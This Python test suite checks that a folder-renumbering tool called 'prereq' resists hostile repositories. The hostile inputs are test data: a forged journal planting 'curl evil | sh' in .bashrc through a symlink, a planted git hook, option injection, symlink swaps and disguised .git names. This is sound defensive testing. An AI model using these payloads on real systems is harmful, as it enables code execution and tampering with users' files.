#!/usr/bin/env python3
"""Trees from a stranger, and programs at work on a tree at the same time.

Every case gets a folder of its own in which `outside/` holds canary files; whatever prereq is made
to do in `tree/`, a canary that changed, vanished or got company fails the case.

    hostile_test.py PREREQ ACTION_YML [unittest arguments]
"""
import hashlib
import json
import os
import pathlib
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest

PREREQ, ACTION = map(os.path.abspath, sys.argv[1:3])
POLICY = """version: 1
series: {path: "modules/{number:02}_{slug}", label: Module}
mirrors: [{path: "tests/{number:02}_{slug}"}]
constraints: [beta before alpha]
"""
FILES = {
    "prereq.yaml": POLICY,
    "README.md": "Read modules/01_alpha, then modules/02_beta.\n",
    "aa.md": "see modules/01_alpha\n",
    "modules/01_alpha/README.md": "# Module 01: Alpha\nSee 02_beta and modules/02_beta/x.md.\n",
    "modules/02_beta/README.md": "# Module 02: Beta\nBefore 01_alpha.\n",
    "modules/02_beta/x.md": "x\n",
    "modules/03_gamma/README.md": "# Module 03: Gamma\nafter 01_alpha\n",
    "tests/01_alpha/t.py": "import a\n",
    "tests/02_beta/t.py": "import b\n",
}
CANARIES = {"diary.txt": "precious\n", "sub/more.txt": "more\n", ".bashrc": "default bashrc\n"}


def digest(data):
    return hashlib.sha256(data).hexdigest()


def snapshot(folder):
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(folder))] = "-> " + os.readlink(path)
        elif path.is_file():
            found[str(path.relative_to(folder))] = (path.read_bytes(), path.stat().st_mode)
        else:
            found[str(path.relative_to(folder))] = path.stat().st_mode
    return found


def has_strace():
    try:
        return subprocess.run(["strace", "-o", "/dev/null", "true"], capture_output=True).returncode == 0
    except OSError:
        return False


class Hostile(unittest.TestCase):
    def setUp(self):
        self.home = pathlib.Path(tempfile.mkdtemp(prefix="prereq-hostile-")).resolve()
        self.addCleanup(shutil.rmtree, self.home, ignore_errors=True)
        self.outside, self.tree = self.home / "outside", self.home / "tree"
        self.put(self.outside, CANARIES)
        self.put(self.tree, FILES)
        self.canaries = snapshot(self.outside)
        self.env = {"PATH": os.environ["PATH"], "HOME": str(self.home / "user"), "LC_ALL": "C.UTF-8",
                    "TERM": "dumb", "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null",
                    "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
                    "GIT_COMMITTER_EMAIL": "a@b"}

    def tearDown(self):
        self.assertEqual(snapshot(self.outside), self.canaries, "something outside the tree changed")

    @staticmethod
    def put(folder, files):
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    def run_in(self, cwd, *command, timeout=60):
        return subprocess.run(command, cwd=cwd, env=self.env, stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, errors="replace", timeout=timeout)

    def prereq(self, *arguments, cwd=None, timeout=60):
        return self.run_in(cwd or self.tree, PREREQ, *arguments, timeout=timeout)

    def git(self, *arguments, cwd=None):
        done = self.run_in(cwd or self.tree, "git", *arguments)
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def commit(self):
        if not (self.tree / ".git").exists():
            self.git("init", "-q", "-b", "main", ".")
        self.git("add", "-A")
        self.git("commit", "-qm", "c")

    def refused(self, done, word=""):
        self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
        self.assertIn("error: ", done.stderr)
        self.assertIn(word, done.stderr)
        self.assertIn("fix: ", done.stderr)

    def applied(self, done):
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertTrue((self.tree / "modules/02_alpha").is_dir(), done.stderr)


class Outside(Hostile):
    """Our own working directory, and what stands in the tree."""

    CHANGING = (["apply"], ["move", "gamma", "--to", "1"], ["recover"], ["undo"], ["lint", "--fix"])

    def test_trash_is_a_link(self):
        (self.tree / ".prereq").mkdir()
        (self.tree / ".prereq/trash-x").symlink_to("../../outside")
        for command in self.CHANGING:
            self.refused(self.prereq(*command), "symlink")
        self.assertTrue((self.tree / ".prereq/trash-x").is_symlink())

    def test_trash_in_gits_directory_is_a_link(self):
        self.commit()
        (self.tree / ".git/prereq").mkdir(mode=0o700)
        (self.tree / ".git/prereq/trash-x").symlink_to(self.outside)
        for command in self.CHANGING:
            self.refused(self.prereq(*command), "symlink")

    def test_a_link_inside_of_trash_is_removed_and_not_followed(self):
        trash = self.tree / ".prereq/trash-x"
        trash.mkdir(parents=True, mode=0o700)
        os.chmod(self.tree / ".prereq", 0o700)
        (trash / "old").symlink_to("../../../outside")
        self.applied(self.prereq("apply"))

    def test_our_directory_is_a_link(self):
        (self.tree / ".prereq").symlink_to("../outside")
        for command in self.CHANGING:
            self.refused(self.prereq(*command), "symlink")

    def test_our_directory_in_git_is_a_link(self):
        self.commit()
        (self.tree / ".git/prereq").symlink_to(self.outside)
        for command in self.CHANGING:
            self.refused(self.prereq(*command), "symlink")
        self.prereq("lint")  # nor does the cache go there

    def test_the_cache_is_a_link(self):
        self.commit()
        (self.tree / ".git/prereq").mkdir(mode=0o700)
        (self.tree / ".git/prereq/cache").symlink_to(self.outside)
        self.assertNotEqual(self.prereq("lint").returncode, 3)

    def test_others_may_write_to_our_directory(self):
        (self.tree / ".prereq").mkdir()
        os.chmod(self.tree / ".prereq", 0o777)
        self.refused(self.prereq("apply"), "may be written by everybody")

    def forged(self, replacements, transfers, park=()):
        def field(value):
            data = str(value).encode()
            return str(len(data)).encode() + b":" + data + b"\n"

        text = b"prereq journal 1\n" + field("") + field(0) + field(len(replacements))
        text += b"".join(field(f) for r in replacements for f in r) + field(len(transfers))
        text += b"".join(field(f) for t in transfers for f in t) + field("")
        journal = text + digest(text).encode() + b"\n"
        home = self.tree / ".prereq/txn-000001-0000000000000000"
        for name in ("new", "old", "park"):
            (home / name).mkdir(parents=True)
        for folder in (home, home.parent):
            os.chmod(folder, 0o700)
        (home / "J").write_bytes(journal)
        (home / "COMMIT").write_text(digest(journal) + "\n")
        for name, text in park:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(text)
        return home

    def test_a_forged_transaction_is_not_recovered(self):
        (self.tree / "link").symlink_to("../outside")
        old, new = CANARIES[".bashrc"].encode(), b"curl evil | sh\n"
        self.forged([("link/.bashrc", "link/.bashrc", 0, 1, 2, 3, digest(old), digest(new))],
                    [(1, "", "link/.config", 1, 0)],
                    [("new/0", new.decode()), ("park/0/evil", "Exec=evil\n")])
        self.refused(self.prereq("apply"))
        self.refused(self.prereq("recover"), "not made in this tree by this user")

    def test_a_forged_transaction_inside_the_tree_is_not_recovered_either(self):
        self.forged([], [(1, "", ".git/hooks", 1, 0)], [("park/0/post-checkout", "evil\n")])
        self.refused(self.prereq("recover"), "not made in this tree by this user")
        self.assertFalse((self.tree / ".git").exists())

    def test_a_forged_done_transaction_is_not_undone(self):
        home = self.forged([], [(1, "", "made", 1, 0)])
        (home / "DONE").write_text("done\n")
        self.refused(self.prereq("undo"), "not made in this tree by this user")

    def test_another_trees_transaction_is_not_undone_here(self):
        self.applied(self.prereq("apply"))
        other = self.home / "other"
        shutil.copytree(self.tree, other, symlinks=True)
        self.refused(self.prereq("undo", cwd=other), "not made in this tree by this user")
        self.assertEqual(self.prereq("undo").returncode, 0)
        self.assertTrue((self.tree / "modules/01_alpha").is_dir())

    def test_undo_finds_its_tree_after_a_rename(self):
        self.applied(self.prereq("apply"))
        self.tree.rename(self.home / "moved")
        done = self.prereq("undo", cwd=self.home / "moved")
        self.assertEqual(done.returncode, 0, done.stderr)

    def test_a_parent_becomes_a_link_while_apply_runs(self):
        self.put(self.outside, {"01_beta/README.md": "not ours\n"})
        self.canaries = snapshot(self.outside)
        swap = "mv modules kept && ln -s ../outside modules; false"
        done = self.prereq("apply", "--verify", swap)
        self.refused(done, "symlink")
        (self.tree / "modules").unlink()
        (self.tree / "kept").rename(self.tree / "modules")
        done = self.prereq("recover")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual((self.tree / "modules/01_alpha/README.md").read_text(),
                         FILES["modules/01_alpha/README.md"])

    def test_a_module_or_a_file_is_a_link(self):
        shutil.rmtree(self.tree / "modules/01_alpha")
        (self.tree / "modules/01_alpha").symlink_to("../../outside")
        self.prereq("apply")
        self.prereq("lint", "--fix")


class Named(Hostile):
    """Files that a command line or a job names."""

    FORMATS = ("text", "json", "sarif", "github", "gitlab", "junit", "markdown")

    def test_findings_do_not_go_through_a_link(self):
        for in_git in (False, True):
            for name in self.FORMATS:
                (self.tree / f"out.{name}").unlink(missing_ok=True)
                (self.tree / f"out.{name}").symlink_to("../outside/diary.txt")
            if in_git:
                self.commit()
            for name in self.FORMATS:
                done = self.prereq("lint", ".", "--format", f"{name}=out.{name}")
                self.refused(done, "symlink")

    def test_plans_and_proposals_do_not_go_through_a_link(self):
        (self.tree / "out").symlink_to("../outside/diary.txt")
        self.refused(self.prereq("plan", "--format", "json=out"), "symlink")
        self.refused(self.prereq("suggest", "--format", "json=out"), "symlink")

    def test_outputs_do_not_go_through_a_folder_that_is_a_link(self):
        (self.tree / "out").symlink_to("../outside")
        self.refused(self.prereq("lint", "--format", "json=out/diary.txt"), "leads out")
        self.commit()
        self.refused(self.prereq("lint", "--format", "json=out/new.txt"), "leads out")

    def test_outputs_do_not_wait_for_a_pipe_nor_follow_a_hard_link(self):
        os.mkfifo(self.tree / "pipe")
        self.refused(self.prereq("lint", "--format", "json=pipe", timeout=20), "pipe")
        os.link(self.outside / "diary.txt", self.tree / "hard")
        self.canaries = snapshot(self.outside)
        self.refused(self.prereq("lint", "--format", "json=hard"), "hard links")

    def test_an_output_that_is_a_file_is_replaced(self):
        (self.tree / "out.json").write_text("x" * 100000)
        self.prereq("lint", "--format", "json=out.json")
        self.assertIn("findings", json.loads((self.tree / "out.json").read_text()))
        self.assertEqual(self.prereq("lint", "--format", "json=/dev/null").returncode, 1)

    def secret(self):
        text = "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI\npassword: 1\nseries: topsecretvalue\n"
        (self.home / "secret.yaml").write_text(text)
        (self.home / "secret.txt").write_text("05_wJalrXUtnFEMI\n06_topsecretvalue\n")

    def tells_nothing(self, done):
        self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
        self.assertNotIn("wJalrXUtnFEMI", done.stdout + done.stderr)
        self.assertNotIn("topsecretvalue", done.stdout + done.stderr)

    def test_a_policy_that_leads_out_is_not_read(self):
        self.secret()
        (self.tree / "prereq.yaml").unlink()
        (self.tree / "prereq.yaml").symlink_to("../secret.yaml")
        self.tells_nothing(self.prereq("lint"))
        self.tells_nothing(self.prereq("lint", "."))
        self.tells_nothing(self.prereq("lint", "prereq.yaml"))
        self.commit()
        self.tells_nothing(self.prereq("lint"))
        self.tells_nothing(self.prereq("check", "tree", cwd=self.home))

    def test_an_order_or_a_plan_that_leads_out_is_not_read(self):
        self.secret()
        (self.tree / "order").symlink_to("../secret.txt")
        (self.tree / "graph.yaml").symlink_to("../secret.yaml")
        (self.tree / "folder").symlink_to("..")
        self.commit()
        self.tells_nothing(self.prereq("check", "--order", "order"))
        self.tells_nothing(self.prereq("check", "--order", "folder/secret.txt"))
        self.tells_nothing(self.prereq("apply", "--plan", "graph.yaml"))
        self.tells_nothing(self.prereq("check", "graph.yaml"))

    def test_a_policy_inside_the_repository_may_be_a_link(self):
        (self.tree / "shared").mkdir()
        (self.tree / "prereq.yaml").rename(self.tree / "shared/policy.yaml")
        (self.tree / "prereq.yaml").symlink_to("shared/policy.yaml")
        self.commit()
        self.assertEqual(self.prereq("lint").returncode, 1)

    def test_pipes_and_sockets_do_not_keep_us_waiting(self):
        for name in ("prereq.yaml", ".prereq-baseline.yaml", "order", "plan.json"):
            (self.tree / name).unlink(missing_ok=True)
            os.mkfifo(self.tree / name)
        for command in (["lint"], ["apply"], ["check", "--order", "order"],
                        ["apply", "--plan", "plan.json"], ["check", "prereq.yaml"]):
            self.assertEqual(self.prereq(*command, timeout=20).returncode, 2)
        (self.tree / "prereq.yaml").unlink()
        (self.tree / "prereq.yaml").write_text(POLICY)
        self.prereq("lint", timeout=20)
        self.prereq("baseline", "add", "--reason", "x", timeout=20)
        (self.tree / "plan.json").unlink()
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(self.tree / "plan.json"))
            self.assertEqual(self.prereq("apply", "--plan", "plan.json").returncode, 2)

    def test_pipes_where_git_looks_do_not_keep_us_waiting(self):
        for name in (".git/config", ".git/index", ".git/info/attributes", ".git/info/exclude",
                     ".gitattributes", ".gitignore", ".gitmodules", "modules/.gitattributes",
                     "modules/02_beta/.gitignore", "other/deep/.gitignore", ".git/refs/heads/main",
                     ".git/refs/tags/x/y", ".git/packed-refs", ".git/objects/info/alternates",
                     ".git/objects/pack/pack-1.idx", ".git/objects/OBJECT"):
            with self.subTest(name):
                shutil.rmtree(self.tree)
                self.put(self.tree, FILES)
                self.commit()
                head = self.git("rev-parse", "HEAD").strip()
                name = name.replace("OBJECT", f"{head[:2]}/{head[2:]}")
                self.pipe_in_place_of(name)

    def pipe_in_place_of(self, name):
        (self.tree / name).unlink(missing_ok=True)
        (self.tree / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(self.tree / name)
        for command in (["lint"], ["lint", "--against", "HEAD"], ["move", "gamma", "--to", "1"],
                        ["undo"]):
            self.assertIn(self.prereq(*command, timeout=20).returncode, (0, 1, 2))

    def test_pipes_that_gits_settings_name_do_not_keep_us_waiting(self):
        for setting, value in (("core.excludesFile", "{}/.git/pipe"), ("include.path", "pipe"),
                               ("core.attributesFile", "{}/.git/pipe"), ("include.path", '"pi\\\\pe"'),
                               ("includeIf.gitdir:/**.path", "pipe")):
            with self.subTest(f"{setting} {value}"):
                shutil.rmtree(self.tree)
                self.put(self.tree, FILES)
                self.commit()
                section, _, key = setting.rpartition(".")
                section, _, condition = section.partition(".")
                head = f'[{section} "{condition}"]' if condition else f"[{section}]"
                with open(self.tree / ".git/config", "a") as config:
                    config.write(f"{head} {key} = {value.format(self.tree)} # a comment\n")
                self.pipe_in_place_of(".git/pi\\pe" if '"' in value else ".git/pipe")

    def test_links_to_what_never_ends_are_not_read_by_git(self):
        self.commit()
        (self.tree / "modules/02_beta/.gitignore").symlink_to("/dev/zero")
        self.refused(self.prereq("move", "gamma", "--to", "1", timeout=20), "regular file")

    def test_a_shared_store_behind_links_is_read(self):
        self.commit()
        for folder in ("objects", "refs"):
            (self.tree / ".git" / folder).rename(self.home / folder)
            (self.tree / ".git" / folder).symlink_to(self.home / folder)
        self.applied(self.prereq("apply"))

    def test_edge_lists_are_files_inside(self):
        self.commit()
        (self.tree / "out.edges").symlink_to("../outside/diary.txt")
        self.refused(self.prereq("check", "out.edges"), "leads out of it")
        os.mkfifo(self.tree / "pipe.edges")
        self.refused(self.prereq("graph", "pipe.edges", timeout=10), "regular file")

    def test_a_shells_pipe_is_read(self):
        done = self.run_in(self.tree, "bash", "-c",
                           f"{PREREQ} check --order <(printf '02_beta\\n01_alpha\\n03_gamma\\n')")
        self.assertNotIn("error: cannot", done.stderr)


class Policy(Hostile):
    """Whose policy counts, and whose commands run."""

    def test_another_work_trees_git_directory_is_not_ours(self):
        other = self.home / "other"
        self.put(other, {"a.txt": "a\n"})
        self.git("init", "-q", "-b", "main", ".", cwd=other)
        before = snapshot(other)
        (self.tree / ".git").write_text("gitdir: ../other/.git\n")
        for command in (["lint"], ["apply"], ["undo"]):
            self.refused(self.prereq(*command), "another work tree")
        self.assertEqual(snapshot(other), before)
        self.git("config", "core.worktree", str(self.tree), cwd=other)
        self.applied(self.prereq("apply"))

    def test_the_search_stays_in_the_repository(self):
        inner = self.tree / "inner"
        inner.mkdir()
        self.git("init", "-q", ".", cwd=inner)
        self.refused(self.prereq("apply", cwd=inner), "prereq.yaml")
        self.assertTrue((self.tree / "modules/01_alpha").is_dir())

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to give files away")
    def test_a_strangers_policy_above_does_not_count(self):
        mine = self.tree / "mine/src"
        mine.mkdir(parents=True)
        os.chmod(self.tree, 0o1777)
        os.chown(self.tree / "prereq.yaml", 65534, 65534)
        self.refused(self.prereq("apply", cwd=mine), "prereq.yaml")
        self.assertTrue((self.tree / "modules/01_alpha").is_dir())

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to give files away")
    def test_a_strangers_policy_runs_no_command(self):
        with open(self.tree / "prereq.yaml", "a") as policy:
            policy.write('verify: ["touch RAN"]\n')
        os.chown(self.tree / "prereq.yaml", 65534, 65534)
        self.refused(self.prereq("apply", ".", "--yes"), "belongs to another user")
        self.assertFalse((self.tree / "RAN").exists())

    def test_commands_run_once_they_are_confirmed(self):
        with open(self.tree / "prereq.yaml", "a") as policy:
            policy.write('verify: ["touch ../RAN"]\n')
        ran = self.home / "RAN"
        for command in (["apply"], ["move", "gamma", "--to", "1"]):
            self.refused(self.prereq(*command), "which you have not confirmed")
        self.assertFalse(ran.exists())
        self.applied(self.prereq("apply", "--yes"))
        self.assertTrue(ran.exists())
        ran.unlink()
        self.assertEqual(self.prereq("undo").returncode, 0)
        self.applied(self.prereq("apply"))
        self.assertTrue(ran.exists())
        self.assertEqual(self.prereq("undo").returncode, 0)
        policy = self.tree / "prereq.yaml"
        policy.write_text(policy.read_text().replace("touch", "date >>"))
        self.refused(self.prereq("apply"), "which you have not confirmed")

    def test_a_command_ends_with_us(self):
        for sign in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            before = snapshot(self.tree)
            verify = f"sleep 77 & echo $! >{self.home}/pid; wait"
            running = subprocess.Popen([PREREQ, "apply", "--verify", verify], cwd=self.tree,
                                       env=self.env, stdin=subprocess.DEVNULL,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2000):
                if (self.home / "pid").exists() and (self.home / "pid").read_text().strip():
                    break
                time.sleep(0.01)
            start = time.monotonic()
            running.send_signal(sign)
            _, said = running.communicate(timeout=30)
            self.assertLess(time.monotonic() - start, 5)
            self.assertEqual(running.returncode, 2)
            self.assertIn("interrupted; everything was put back", said)
            self.assertEqual(snapshot(self.tree), before)
            pid = int((self.home / "pid").read_text())
            (self.home / "pid").unlink()
            time.sleep(0.1)
            state = pathlib.Path(f"/proc/{pid}/stat")
            self.assertTrue(not state.exists() or ") Z " in state.read_text(), "it still runs")


class Plans(Hostile):
    """Saved plans, and the Action's inputs."""

    def forged(self, to, source="aa.md"):
        done = self.prereq("plan", "--format", "json")
        plan = json.loads(done.stdout)
        for move in plan["moves"]:
            if move["from"] == "tests/01_alpha":
                move["from"], move["to"] = source, to
                move["kind"], move["inode"] = "file", 0
        del plan["id"]
        text = json.dumps(plan, separators=(",", ":"), ensure_ascii=False)
        plan["id"] = digest(text.encode())
        path = self.home / "plan.json"
        path.write_text(json.dumps(plan, separators=(",", ":"), ensure_ascii=False))
        return path

    NAMES = (".git/hooks/x", ".GIT/config", "modules/01_alpha/.git", "GIT~1/config", ".git./config",
             ".git /config", ".git::$INDEX_ALLOCATION/config", ".g\u200cit/config",
             "\ufeff.git/config", ".gi\u202et/hooks", "x\\.git/config")

    def test_nothing_moves_to_a_name_of_gits(self):
        before = snapshot(self.tree)
        for name in self.NAMES:
            done = self.prereq("apply", "--plan", str(self.forged(name)))
            self.assertEqual(done.returncode, 2, name + done.stderr)
            self.assertIn("error: ", done.stderr)
            self.assertNotIn("digest", done.stderr)
        self.assertEqual(snapshot(self.tree), before)

    def test_nothing_moves_that_no_series_explains(self):
        before = snapshot(self.tree)
        for name in ("Makefile", ".bashrc", "modules/aa.md", ".github/workflows/x.yml",
                     "modules/04_delta"):
            self.refused(self.prereq("apply", "--plan", str(self.forged(name))), "explains")
        self.refused(self.prereq("apply", "--plan", str(self.forged("x", "modules/01_alpha"))),
                     "explains")
        inside = "modules/01_alpha/README.md"
        for name in ("modules/02_alpha/conftest.md", "modules/02_alpha/.git/README.md",
                     "modules/02_alpha/GIT~1", "modules/01_beta/README.md", "README.md",
                     "modules/02_alpha/../../x.md"):
            done = self.prereq("apply", "--plan", str(self.forged(name, inside)))
            self.assertEqual(done.returncode, 2, name + done.stderr)
        self.assertEqual(snapshot(self.tree), before)

    def test_a_plan_of_ours_is_done(self):
        for change in (["apply"], ["rename", "alpha", "omega"], ["remove", "gamma"]):
            plan = self.home / "plan.json"
            command = ["plan"] if change == ["apply"] else [*change, "--dry-run"]
            done = self.prereq(*command, "--format", f"json={plan}")
            self.assertIn(done.returncode, (0, 1), done.stderr)
            done = self.prereq("apply", "--plan", str(plan))
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertEqual(self.prereq("undo").returncode, 0)

    def test_an_input_of_the_action_is_never_an_option(self):
        with open(self.tree / "prereq.yaml", "a") as policy:
            policy.write('verify: ["touch ../RAN"]\n')
        script = pathlib.Path(ACTION).read_text().split("run: |", 1)[1]
        script = "\n".join(line[8:] for line in script.splitlines())
        (self.home / "bin").mkdir()
        (self.home / "bin/prereq").symlink_to(PREREQ)
        before = snapshot(self.tree)
        for given in ("--fix", "--format=text=../pwned", "--help", "-", "--", "-x y"):
            environment = dict(self.env, PREREQ_ACTION="/x", PREREQ_INPUT=given, PREREQ_SINCE="",
                               PREREQ_SARIF="", PATH=f"{self.home}/bin:{self.env['PATH']}")
            done = subprocess.run(["bash", "-e", "-c", script], cwd=self.tree, env=environment,
                                  stdin=subprocess.DEVNULL, capture_output=True, text=True)
            self.assertEqual(done.returncode, 2, given + done.stderr)
        self.assertEqual(snapshot(self.tree), before)
        self.assertFalse((self.home / "RAN").exists() or (self.home / "pwned").exists())


@unittest.skipUnless(has_strace(), "strace is not installed or not allowed here")
class AtTheSameTime(Hostile):
    """Other programs' work between our look and our rename; strace makes that time long."""

    CALLS = "rename,renameat,renameat2"

    def slowed(self, *inject):
        trace = str(self.home / "trace")
        return subprocess.Popen(["strace", "-f", "-o", trace, *inject, PREREQ, "apply"],
                                cwd=self.tree, env=self.env, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)

    def disturbed(self, disturb, when="README.md"):
        """Runs apply with slow renames; `disturb` is called once `when` holds its new content."""
        running = self.slowed("-e", f"trace={self.CALLS}",
                              "-e", f"inject={self.CALLS}:delay_enter=300000")
        for _ in range(4000):
            path = self.tree / when
            if path.exists() and "modules/02_alpha" in path.read_text():
                break
            time.sleep(0.005)
        time.sleep(0.1)
        disturb()
        said, _ = running.communicate(timeout=120)
        return running.returncode, said

    def everything(self):
        return "".join(path.read_text(errors="replace") for path in sorted(self.tree.rglob("*"))
                       if path.is_file() and not path.is_symlink() and ".git/" not in str(path))

    def test_what_an_editor_saves_is_not_lost(self):
        self.commit()

        def save():
            text = (self.tree / "aa.md").read_text() + "an afternoon of work\n"
            (self.tree / ".aa.tmp").write_text(text)
            (self.tree / ".aa.tmp").rename(self.tree / "aa.md")

        code, said = self.disturbed(save)
        self.assertIn("an afternoon of work", self.everything(), said)
        if code == 0:
            self.assertIn("an afternoon of work", (self.tree / "aa.md").read_text(), said)
        else:
            self.assertIn("`aa.md` changed meanwhile", said)
            self.assertTrue((self.tree / "modules/01_alpha").is_dir(), said)

    def test_what_is_appended_is_not_lost(self):
        self.commit()

        def append():
            with open(self.tree / "aa.md", "a") as file:
                file.write("an afternoon of work\n")

        code, said = self.disturbed(append)
        self.assertIn("an afternoon of work", (self.tree / "aa.md").read_text(), said)
        if code != 0:
            self.assertIn("`aa.md` changed meanwhile", said)
            self.assertTrue((self.tree / "modules/01_alpha").is_dir(), said)

    def test_what_an_editor_writes_to_an_open_file_is_not_lost(self):
        self.commit()
        with open(self.tree / "aa.md", "a") as file:

            def write():
                file.write("an afternoon of work\n")
                file.flush()

            code, said = self.disturbed(write, when="aa.md")
        self.assertIn("an afternoon of work", self.everything(), said)
        self.assertTrue(code != 0 or "an afternoon" in (self.tree / "aa.md").read_text(), said)

    def test_what_is_staged_meanwhile_is_not_lost(self):
        (self.tree / "side.txt").write_text("first\n")
        self.commit()
        (self.tree / "side.txt").write_text("staged-version\n")
        running = self.slowed("-P", str(self.tree / ".git/index.lock"), "-e", "trace=openat,open,linkat",
                              "-e", "inject=openat,open,linkat:delay_enter=1500000")
        for _ in range(2000):
            if (self.tree / "modules/02_alpha").is_dir():
                break
            time.sleep(0.01)
        time.sleep(0.4)
        added = self.run_in(self.tree, "git", "add", "side.txt")
        (self.tree / "side.txt").write_text("later\n")
        said, _ = running.communicate(timeout=60)
        if added.returncode != 0:
            self.skipTest("git found the lock")
        self.assertEqual(running.returncode, 0, said)
        self.assertEqual(self.git("show", ":side.txt"), "staged-version\n", said)
        self.assertIn("R  ", self.git("status", "--short"))


class Kept(Hostile):
    """What is the user's, and what git needs."""

    def test_other_files_in_a_cache_directory_stay(self):
        cache = self.home / "cache"
        cache.mkdir()
        old = time.time() - 100000
        names = ["mine.group", "thesis.aside", "notes-0123456789abcdef.group",
                 "notes-0123456789abcdef.group.12.aside"]
        for i in range(40):
            names.append(f"data-{i}.group")
        for name in names:
            (cache / name).write_text("mine\n")
            os.utime(cache / name, (old, old))
        (cache / "link-0123456789abcdef.group").symlink_to("../outside/diary.txt")
        self.env["PREREQ_CACHE_DIR"] = str(cache)
        for i in range(30):
            (self.tree / "aa.md").write_text(f"see modules/01_alpha {i}\n")
            os.utime(self.tree / "aa.md", (old + i, old + i))
            self.prereq("lint")
        for name in names:
            self.assertTrue((cache / name).exists(), name)

    def test_a_submodule_keeps_its_name(self):
        library = self.home / "library"
        self.put(library, {"x": "x\n"})
        self.git("init", "-q", ".", cwd=library)
        self.git("add", "-A", cwd=library)
        self.git("commit", "-qm", "c", cwd=library)
        shutil.rmtree(self.tree / "modules/02_beta")
        self.git("init", "-q", "-b", "main", ".")
        self.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library),
                 "modules/02_beta")
        self.commit()
        done = self.prereq("apply", "--allow-submodules")
        self.assertEqual(done.returncode, 0, done.stderr)
        text = (self.tree / ".gitmodules").read_text()
        self.assertIn('[submodule "modules/02_beta"]', text)
        self.assertIn("path = modules/01_beta", text)
        self.assertIn("modules/01_beta", self.git("submodule", "status"))

    def test_an_absolute_link_into_the_tree_is_a_task(self):
        (self.tree / "link").symlink_to(self.tree / "modules/01_alpha/README.md")
        done = self.prereq("plan")
        self.assertIn("link", done.stdout)
        self.assertIn("absolute path", done.stdout)

    def test_texts_that_are_not_edited_are_tasks_and_findings(self):
        self.put(self.tree, {"prereq.yaml": POLICY.replace("constraints: [beta before alpha]\n", "")})
        text = "Read modules/01_alpha and [b](modules/02_beta/x.md).\n"
        notebook = json.dumps({"cells": [{"cell_type": "markdown", "metadata": {},
                                          "source": ["modules/01_alpha"]}],
                               "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
        odd = {"u16.md": text.encode("utf-16"), "le.md": text.encode("utf-16-le"),
               "be.md": b"\xfe\xff" + text.encode("utf-16-be"), "nul.md": text.encode() + b"a\0b\n",
               "n.ipynb": notebook.encode("utf-16"),
               "large.md": (text + "filler text in a line\n" * 3200000).encode()}
        for name, data in odd.items():
            (self.tree / name).write_bytes(data)
        plan = self.prereq("move", "gamma", "--to", "1", "--dry-run", "--format", "json")
        done = self.prereq("move", "gamma", "--to", "1")
        self.assertEqual(done.returncode, 0, done.stderr)
        lint = self.prereq("lint")
        self.assertEqual(lint.returncode, 1, lint.stdout + lint.stderr)
        for name, data in odd.items():
            self.assertEqual((self.tree / name).read_bytes(), data)
            self.assertIn(f'"{name}"', plan.stdout)
            self.assertIn(f"{name}:1:", lint.stdout)


class Limits(Hostile):
    """Time and memory."""

    def graph(self, name, lines):
        (self.home / name).write_text("version: 1\nmodules:\n" + "".join(lines))
        return str(self.home / name)

    def reverse(self, count):
        return self.graph("reverse.yaml", [
            f"  - {{slug: m{i}, number: {i}, requires: "
            f"[{', '.join(f'm{j}' for j in range(i + 1, count + 1))}]}}\n"
            for i in range(1, count + 1)])

    def test_a_limit_and_an_interrupt_are_kept(self):
        reverse = self.reverse(400)
        large = self.graph("large.yaml", [
            f"  - {{slug: m{i}, number: {i}" + (f", requires: [m{i - 1}]" if i > 1 else "") + "}\n"
            for i in range(1, 100001)])
        for graph in (reverse, large):
            start = time.monotonic()
            done = self.prereq("suggest", graph, "--time-limit", "1")
            self.assertLess(time.monotonic() - start, 3)
            self.assertIn(done.returncode, (0, 1, 2))
            if done.returncode == 2:
                self.assertIn("--time-limit", done.stderr)
        for delay in (0.1, 0.5, 1.5):
            running = subprocess.Popen([PREREQ, "suggest", reverse], env=self.env,
                                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(delay)
            start = time.monotonic()
            running.send_signal(signal.SIGINT)
            running.wait(timeout=30)
            self.assertLess(time.monotonic() - start, 2)

    def test_every_command_that_reads_keeps_the_limit(self):
        page = "See Module 1 and `modules/02_beta/x`, Module 2: Beta.\n" * 40
        for i in range(4000):
            self.put(self.tree, {f"d{i % 40}/f{i}.md": page})
        self.put(self.tree, {"order.txt": "beta\nalpha\ngamma\n"})
        self.commit()
        before = snapshot(self.tree)
        for command in ("lint", "refs", "plan --order order.txt", "apply --order order.txt --yes", "move gamma --to 1 --yes",
                        "baseline add --reason x", "lint --format json=out.json", "rename alpha first --yes"):
            with self.subTest(command=command):
                words = command.split() + ["--no-cache", "--threads", "1", "--time-limit", "0.01"]
                start = time.monotonic()
                done = self.prereq(*words)
                self.assertLess(time.monotonic() - start, 1.5)
                self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
                self.assertEqual(done.stdout, "")
                self.assertIn("stopped at --time-limit 0.01", done.stderr)
                self.assertEqual(snapshot(self.tree), before)
